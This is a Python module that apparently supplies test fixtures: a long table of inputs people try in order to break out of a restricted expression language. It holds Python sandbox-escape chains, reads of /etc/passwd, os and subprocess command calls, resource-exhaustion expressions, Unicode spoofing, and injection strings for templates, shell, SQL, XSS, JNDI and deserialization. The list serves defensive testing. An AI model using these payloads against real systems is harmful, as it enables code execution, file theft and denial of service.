"""What people have tried to get out of an expression language, and more of the kind."""

# one attempt a line, read as a table
# ruff: noqa: E501

from __future__ import annotations

_NAMES = ("shop.seats", "shop.kind", "case.number", "x", "''", "()", "[]", "{}", "0", "True", "None")
_DUNDERS = (
    "__class__", "__class__.__base__.__subclasses__()", "__class__.__mro__", "__init__.__globals__", "__dict__", "__doc__", "__module__",
    "__reduce__()", "__getattribute__('x')", "__subclasshook__", "__format__('')", "__sizeof__()", "__init_subclass__()", "__dir__()",
)  # fmt: skip
_BUILTINS = (
    "eval('1')", "exec('1')", "compile('1', 'a', 'eval')", "open('/etc/passwd').read()", "__import__('os').system('true')",
    "__import__('subprocess').getoutput('id')", "globals()", "locals()", "vars()", "dir()", "getattr(shop, 'seats')", "setattr(shop, 'seats', 1)",
    "delattr(shop, 'seats')", "hasattr(shop, 'seats')", "input()", "print(1)", "breakpoint()", "help()", "exit()", "quit()", "memoryview(b'')",
    "type(1)", "object()", "super()", "isinstance(1, int)", "issubclass(int, int)", "callable(abs)", "id(1)", "hash(1)", "repr(1)", "str(1)",
    "bytes(9)", "bytearray(10**9)", "list(range(10**9))", "tuple(shop.goods)", "set()", "dict()", "frozenset()", "map(abs, [1])", "filter(abs, [1])",
    "zip([1], [2])", "iter([1])", "next(iter([1]))", "enumerate([1])", "sorted([1])", "reversed([1])", "sum([1])", "pow(9, 999999)", "round(1.5)",
    "divmod(1, 2)", "chr(1)", "ord('a')", "hex(1)", "oct(1)", "bin(1)", "int('1')", "float('inf')", "complex(1)", "bool(1)", "slice(1)", "property(1)",
    "staticmethod(1)", "classmethod(1)", "format(1)", "ascii(1)", "copyright()", "license()", "credits()", "anext(1)", "aiter(1)", "__build_class__(1)",
    "__debug__", "__name__", "__file__", "__loader__", "__spec__", "__builtins__", "__builtins__['eval']('1')", "NotImplemented", "Ellipsis", "...",
)  # fmt: skip
_SYNTAX = (
    "lambda: 1", "(lambda: 1)()", "(lambda f: f(f))(lambda f: f(f))", "[x for x in shop.goods]", "{x for x in shop.goods}", "{x: 1 for x in shop.goods}",
    "(x for x in shop.goods)", "any(x for x in shop.goods for y in shop.goods)", "any(x == 'a' async for x in shop.goods)", "(y := 1)", "y := 1",
    "any((y := k) == 'a' for k in shop.goods)", "f'{shop.seats}' == '1'", "f'{__import__(\"os\")}'", "f\"{shop.seats!r:>{10**9}}\"", "'%s' % shop.seats == '1'",
    "'{0.__class__}'.format(1) == ''", "'a'.join(['b']) == ''", "'a'.upper() == 'A'", "'a'.encode() == 'b'", "shop.kind.upper() == 'A'", "shop.kind.format(1)",
    "shop.kind[0] == 'a'", "shop.kind[::-1] == 'a'", "shop.goods[0] == 'a'", "[1][0] == 1", "{'a': 1}['a'] == 1", "shop['seats'] > 1", "case[0]",
    "1 if True else 0", "shop.seats if True else 1", "await shop.seats", "yield 1", "(yield)", "(yield from [])", "*shop.goods", "[*shop.goods]", "{**shop}",
    "abs(*[1]) > 0", "abs(**{}) > 0", "abs(x=1) > 0", "max(shop.seats, key=abs) > 1", "min(*shop.goods)", "size(shop.goods, 1)", "has()", "has('shop.seats')",
    "import os", "from os import system", "shop.seats = 1", "shop.seats += 1", "del shop.seats", "assert True", "raise ValueError", "return 1", "pass", "break",
    "global x", "nonlocal x", "while True: 1", "for x in shop.goods: 1", "if True: 1", "with open('a') as b: 1", "try: 1", "def f(): 1", "class A: 1",
    "@abs\ndef f(): 1", "1; 2", "True; True", "True # and\nFalse", "True\nTrue", "\nTrue\n\nFalse", "match x:\n case 1: 1", "type X = int", "print 1", "exec '1'",
    "1 < 2 < 3", "shop.seats < 3 < 5", "1 == 1 == 1", "shop.seats is 1", "shop.seats is not None", "shop.seats <> 1", "shop.seats === 1", "shop.seats && True",
    "shop.seats || True", "!shop.seats", "~shop.seats == 1", "+shop.kind == 'a'", "-shop.kind == 'a'", "shop.seats / 2 > 1", "shop.seats // 2 > 1", "shop.seats % 2 == 1",
    "shop.seats ** 2 > 1", "shop.seats << 2 > 1", "shop.seats >> 2 > 1", "shop.seats | 1 == 1", "shop.seats & 1 == 1", "shop.seats ^ 1 == 1", "shop.seats @ 2 == 1",
    "2 ** 999999999 > 1", "9 ** 9 ** 9 ** 9 > 1", "10 ** -1 > 1", "'a' * 10 == 'a'", "[1] * 999999999 == [1]", "'a' + 'b' == 'ab'", "'a' > 1", "1 == '1'",
)  # fmt: skip
_NUMBERS = (
    "1e999 > 1", "1e5 > 1", "1_000 > 1", "0x10 > 1", "0o17 > 1", "0b1 > 0", "1j == 1", ".5 > 1", "5. > 1", "00 == 0", "1000000000000000 > 1", "inf > 1", "nan == nan",
    "9" * 400 + " > 1", "0." + "1" * 400 + " > 1", "-9999999999999999 < 1", "Decimal('1') > 1", "float.fromhex('1') > 1",
)  # fmt: skip
_TEXT = (
    "b'a' == 'a'", "r'a' == 'a'", "u'a' == 'a'", "rb'a' == 'a'", "'\\x41' == 'A'", "'\\u0041' == 'A'", "'\\N{LATIN SMALL LETTER A}' == 'a'", "'a\\nb' == 'a'", "'''a''' == 'a'\\",
    "'\x00' == 'a'", "'\x07' == 'a'", "'\x1b[31m' == 'a'", "'\u202e' == 'a'", "'\u200b' == 'a'", "'\ufeff' == 'a'", "'\U000e0041' == 'a'", "shop.ѕeats > 1",
    "ѕhop.seats > 1", "shop.seats\u00a0> 1", "shop.seats \u2265 1", "shop.seats\u3000> 1", "\uff41bs(1) > 0", "𝒽as(shop.seats)", "ｈａｓ(shop.seats)", "has\u200b(shop.seats)",
    "__𝒾mport__('os')", "ｅｖａｌ('1')", "shop\u2024seats > 1", "\u037e", "#", "# coding: rot13", "\\\nTrue", "True \\\n and True", "\\", "'", '"', "'''", '"""',
    "\ufeffTrue", "\x00True", "True\x00", "\rTrue", "True\x0c", "\t", " ", "\u2028True",
)  # fmt: skip
_TEMPLATES = (
    "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% raw %}", "{{config}}", "{{''.__class__}}", "$(id)", "`id`", "; id", "| id", "&& id", "%0aid", "../../etc/passwd",
    "file:///etc/passwd", "http://localhost/", "' or '1'='1", "1; DROP TABLE cases", "' UNION SELECT 1 --", "<script>alert(1)</script>", "*)(uid=*", "${jndi:ldap://x}",
    "!!python/object:os.system", "!ruby/object:Gem", "O:8:\"stdClass\":0:{}", "pickle.loads(x)", "yaml.load(x)", "os.system('true')", "sys.exit()", "subprocess.run('true')",
    "import_module('os')", "self.__class__", "cls.__mro__", "request.application", "config.SECRET_KEY", "session.query()", "ctx.catalogue", "state.tokens", "engine.apply()",
    "d.machine", "actor.__class__", "actor.id == 'x'", "actor.roles", "case.__dict__", "case.applicant == 'x'", "case.id", "old.premises.area > 1", "new.premises.area > 1",
    "result.ok", "form.shop.seats > 1", "steps.draft", "facts.premises", "true", "false", "null", "yes", "undefined", "this", "NaN", "shop", "shop.", ".seats", "shop..seats",
    "shop.seats.", "shop.seats.real > 1", "shop.seats.bit_length() > 1", "shop.opened.year > 1", "shop.opened.strftime('%s') == ''", "shop.seats", "shop.kind", "1", "'a'", "'' or ''", "1 + 1",
)  # fmt: skip
ESCAPES: list[str] = list(dict.fromkeys(
    [f"{name}.{dunder}" for name in _NAMES[:5] for dunder in _DUNDERS]
    + [f"{name}.__class__.__bases__[0].__subclasses__()" for name in _NAMES]
    + [*_BUILTINS, *_SYNTAX, *_NUMBERS, *_TEXT, *_TEMPLATES]
    + [f"has(shop.seats) and {attempt}" for attempt in _BUILTINS[:20]]
    + [f"any({attempt} for k in shop.goods)" for attempt in _BUILTINS[:20]]
))  # fmt: skip
